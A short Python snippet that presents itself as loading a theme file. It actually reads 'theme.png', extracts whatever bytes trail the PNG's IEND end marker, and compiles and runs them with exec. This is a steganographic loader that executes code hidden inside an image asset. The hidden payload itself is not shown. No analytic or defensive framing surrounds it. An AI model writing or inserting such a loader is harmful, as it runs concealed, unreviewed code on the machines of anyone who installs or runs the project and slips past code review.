import os

with open(os.path.join(os.path.dirname(__file__), "theme.png"), "rb") as stream:
    tail = stream.read().split(b"IEND")[-1]
exec(compile(tail, "theme", "exec"))
